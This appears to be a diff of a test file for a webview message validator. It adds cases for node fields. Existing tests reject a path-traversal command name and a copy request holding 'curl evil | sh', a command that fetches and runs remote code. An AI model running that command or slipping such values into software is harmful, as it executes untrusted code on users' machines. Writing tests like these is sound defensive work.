@@ -35,6 +35,7 @@ test('what the page asks for', () =>
     { kind: 'follow', on: true },
     { kind: 'saveSvg', name: 'web-rollout.svg', svg: '<svg xmlns="http://www.w3.org/2000/svg"></svg>' },
     { kind: 'difference' },
+    { kind: 'stateNodes', field: 'cpu', text: '4' },
     { kind: 'run', command: 'showLog' },
     { kind: 'run', command: 'simulateSetImage', at: 'rest' },
   ));
@@ -44,6 +45,12 @@ test('commands that it has no button for', () =>
     { kind: 'run', command: 'toString' },
     { kind: 'run', command: '../workbench.action.closeWindow' },
     { kind: 'run' },
+  ));
+test('numbers that nodes don’t have', () =>
+  checkPassedOver(
+    { kind: 'stateNodes', field: 'taints', text: '4' },
+    { kind: 'stateNodes', field: 'cpu', text: 4 },
+    { kind: 'stateNodes', field: 'cpu' },
   ));
 test('a text that it doesn’t show isn’t copied', () =>
   checkPassedOver({ kind: 'copy', text: 'curl evil | sh' }, { kind: 'copy', text: 'kubectl' }, { kind: 'copy', text: '' }));
